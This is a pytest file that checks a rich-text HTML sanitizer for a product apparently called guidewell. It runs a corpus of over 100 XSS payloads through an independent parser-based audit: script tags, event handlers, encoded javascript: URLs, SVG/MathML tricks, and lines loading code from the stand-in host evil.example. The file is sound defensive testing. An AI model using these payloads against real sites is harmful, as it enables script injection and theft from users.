"""Rich-text sanitizing: what survives, what does not, and an XSS corpus checked by an
independent audit (Python's html.parser) both through `sanitize` and `load_content`."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guidewell.schemas.content import load_content
from guidewell.services.sanitize import is_blank, sanitize

# The audit's own allowlist, written out again on purpose: it must not trust the
# sanitizer's configuration to check the sanitizer.
SAFE_TAGS = {"p", "strong", "em", "a", "ul", "ol", "li", "br", "code", "img"}
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "img": {"src", "alt", "width", "height"},
}
SAFE_SCHEMES = {("a", "href"): {"http", "https", "mailto"}, ("img", "src"): {"http", "https"}}
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: it drops tabs and newlines anywhere and C0
    controls and spaces at both ends before parsing."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    match = _SCHEME.match(url)
    return match.group(1).lower() if match else None


class Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            schemes = SAFE_SCHEMES.get((tag, name))
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            elif name not in SAFE_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif schemes is not None and url_scheme(value or "") not in schemes:
                self.problems.append(f"URL {value!r} in <{tag} {name}>")
            elif name == "target" and value != "_blank":
                self.problems.append(f"target={value!r}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer":
            self.problems.append("<a> without rel=noopener noreferrer")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"CDATA or unknown declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def dangers(html: str) -> list[str]:
    audit = Audit()
    audit.feed(html)
    audit.close()
    if "<script" in html.lower():
        audit.problems.append("text <script")
    return audit.problems


XSS_PAYLOADS = [
    # script tags, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    '<script/src="https://evil.example/x.js"></script>',
    '<script type="text/javascript">alert(1)</script>',
    "<script\n>alert(1)</script\n>",
    "<script >alert(1)</script >",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p><script>alert(1)</script></p>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<textarea><script>alert(1)</script></textarea>",
    # event handlers on every allowed tag
    '<p onclick="alert(1)">x</p>',
    "<strong onmouseover=alert(1)>x</strong>",
    "<em onfocus=alert(1) tabindex=0>x</em>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<ul onmouseenter=alert(1)><li>x</li></ul>",
    "<ol onpointerdown=alert(1)><li>x</li></ol>",
    "<li onanimationstart=alert(1)>x</li>",
    "<br onload=alert(1)>",
    "<code oncopy=alert(1)>x</code>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)" class="x" id="y">x</p>',
    # javascript:, vbscript:, data: and other schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="&#x26;#106;avascript:alert(1)">x</a>',
    '<a href="javascript:%61lert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,alert(1)">x</a>',
    '<a href="&#100;ata:text/html,alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/relative/path">x</a>',
    '<a href="https://ok.example/?q=<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" target="_self">x</a>',
    '<a href="https://ok.example" xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" formaction="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="  data:image/png;base64,AAAA">',
    '<img src="mailto:a@b.example">',
    '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
    '<img src="https://ok.example/a.png" width="100%;x:expression(alert(1))">',
    '<img alt="<script>alert(1)</script>" src="https://ok.example/a.png">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # style, base, meta, form, frames and friends
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<isindex action="javascript:alert(1)" type=image>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # broken and unclosed markup
    '<img src="x" onerror="alert(1)"',
    '<a href="javascript:alert(1)"',
    "<p <script>alert(1)</script>>",
    '<img """><script>alert(1)</script>">',
    '<a href="https://ok.example"><a href="javascript:alert(1)">x',
    "</p><script>alert(1)</script>",
    "<a href=https://ok.example onclick=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    '<a href="<script>alert(1)</script>">x</a>',
    # comments, CDATA, declarations
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
]


def rich_text_fields(kind: str, html: str) -> dict[str, Any]:
    """Content of `kind` with `html` in every rich-text field it has."""
    target = {"selector": "#save"}
    return {
        "tour": {"steps": [{"title": "T", "body": html}]},
        "hotspot": {"hotspots": [{"target": target, "title": "T", "body": html}]},
        "announcement": {"format": "modal", "title": "T", "body": html},
        "questionnaire": {
            "intro": html,
            "thank_you": html,
            "questions": [{"type": "text", "prompt": "Why?", "description": html}],
        },
        "checklist": {
            "title": "T",
            "description": html,
            "items": [
                {"title": "A", "action": "url", "url": "https://ok.example", "description": html}
            ],
        },
    }[kind]


def loaded_rich_text(kind: str, content: dict[str, Any]) -> list[str]:
    """Every rich-text field that rich_text_fields() filled, as loaded."""
    if kind == "tour":
        return [content["steps"][0]["body"]]
    if kind == "hotspot":
        return [content["hotspots"][0]["body"]]
    if kind == "announcement":
        return [content["body"]]
    if kind == "questionnaire":
        return [content["intro"], content["thank_you"], content["questions"][0]["description"]]
    return [content["description"], content["items"][0]["description"]]


def test_corpus_is_large_enough() -> None:
    """Does the XSS corpus hold at least 60 distinct payloads?"""
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS) >= 60


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<div>x</div>",
        '<p onclick="x">x</p>',
        '<p class="x">x</p>',
        '<a href="javascript:alert(1)" rel="noopener noreferrer">x</a>',
        '<a href=" JAVA\tSCRIPT:x" rel="noopener noreferrer">x</a>',
        '<a href="/relative" rel="noopener noreferrer">x</a>',
        '<a href="https://ok.example">x</a>',
        '<a href="https://ok.example" target="_top" rel="noopener noreferrer">x</a>',
        '<img src="mailto:a@b.example">',
        '<img src="data:image/png;base64,AAAA">',
        "<!-- x -->",
        "<![CDATA[x]]>",
        '<img alt="<script>">',
    ],
)
def test_audit_flags_dangerous_markup(markup: str) -> None:
    """Does the independent audit itself catch markup it must reject?"""
    assert dangers(markup)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitize_leaves_nothing_dangerous(payload: str) -> None:
    """Does any XSS payload survive sanitize()?"""
    assert dangers(sanitize(payload)) == []


@pytest.mark.parametrize("kind", ["tour", "hotspot", "announcement", "questionnaire", "checklist"])
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_load_content_leaves_nothing_dangerous(kind: str, payload: str) -> None:
    """Does any XSS payload survive load_content() in any rich-text field of any kind?"""
    content = load_content(kind, rich_text_fields(kind, payload))
    assert [problem for html in loaded_rich_text(kind, content) for problem in dangers(html)] == []


def test_allowed_markup_is_kept() -> None:
    """Is the whole allowed subset kept as written?"""
    html = (
        "<p><strong>Bold</strong>, <em>italic</em> and <code>code</code><br></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol>"
        '<img src="https://cdn.example/a.png" alt="Chart" width="320" height="200">'
    )
    assert sanitize(html) == html


def test_links_always_get_rel() -> None:
    """Does every link get rel="noopener noreferrer", replacing the author's rel?"""
    assert sanitize('<a href="https://ok.example" rel="opener">x</a>') == (
        '<a href="https://ok.example" rel="noopener noreferrer">x</a>'
    )


def test_link_keeps_title_and_blank_target() -> None:
    """Are title and target="_blank" kept on a link?"""
    html = '<a href="mailto:help@ok.example" title="Mail us" target="_blank">x</a>'
    assert sanitize(html) == (
        '<a href="mailto:help@ok.example" title="Mail us" target="_blank" '
        'rel="noopener noreferrer">x</a>'
    )


def test_link_drops_other_targets() -> None:
    """Is a target other than _blank removed?"""
    assert "target" not in sanitize('<a href="https://ok.example" target="_parent">x</a>')


def test_relative_link_loses_href() -> None:
    """Is a relative href removed, since it would resolve against the host page?"""
    assert sanitize('<a href="/account">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_image_accepts_http() -> None:
    """Is a plain http image kept?"""
    assert (
        sanitize('<img src="http://cdn.example/a.png">') == '<img src="http://cdn.example/a.png">'
    )


def test_image_size_must_be_pixels() -> None:
    """Are width/height values other than plain pixel numbers removed?"""
    assert sanitize('<img src="https://cdn.example/a.png" width="50%" height="99999">') == (
        '<img src="https://cdn.example/a.png">'
    )


def test_unknown_tags_keep_their_text() -> None:
    """Does a tag outside the subset disappear while its text stays?"""
    assert sanitize("<h1>Welcome <span>aboard</span></h1>") == "Welcome aboard"


# <embed> is left out: a void element, it has no content to drop.
@pytest.mark.parametrize("tag", ["script", "style", "template", "iframe", "object", "svg", "math"])
def test_dangerous_containers_lose_their_content(tag: str) -> None:
    """Is the content of script-like containers dropped, not shown as text?"""
    assert sanitize(f"<p>a</p><{tag}>hidden</{tag}><p>b</p>") == "<p>a</p><p>b</p>"


def test_comments_are_removed() -> None:
    """Are HTML comments removed?"""
    assert sanitize("<p>a<!-- note --></p>") == "<p>a</p>"


def test_text_is_escaped() -> None:
    """Is a literal "<" in text kept as text, escaped?"""
    assert sanitize("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"


@pytest.mark.parametrize(
    "html", ["", "   ", "<p></p>", "<p> <br> </p>", "&nbsp;", "<script>x</script>"]
)
def test_is_blank_for_empty_markup(html: str) -> None:
    """Is rich text with no visible text and no image blank?"""
    assert is_blank(sanitize(html))


@pytest.mark.parametrize("html", ["<p>Hi</p>", '<img src="https://cdn.example/a.png">', "&lt;"])
def test_is_blank_false_for_content(html: str) -> None:
    """Does text or an image make rich text non-blank?"""
    assert not is_blank(sanitize(html))


# Fragments that recombine into tags, attributes, entities and URLs.
HTML_ISH = st.lists(
    st.sampled_from(
        [
            *"<>/=\"' \t\n&#;:!-x",
            *("script", "style", "svg", "img", "a", "p", "href", "src", "on"),
            *("javascript", "data", "https", "//ok.example", "&#106;", "<!--", "-->"),
        ]
    ),
    max_size=60,
).map("".join)


@given(HTML_ISH)
def test_sanitize_output_is_always_safe(html: str) -> None:
    """Is the output safe for arbitrary HTML-like input?"""
    assert dangers(sanitize(html)) == []


@given(HTML_ISH)
def test_sanitize_is_idempotent(html: str) -> None:
    """Does sanitizing clean output change nothing, so re-saving content is stable?"""
    once = sanitize(html)
    assert sanitize(once) == once
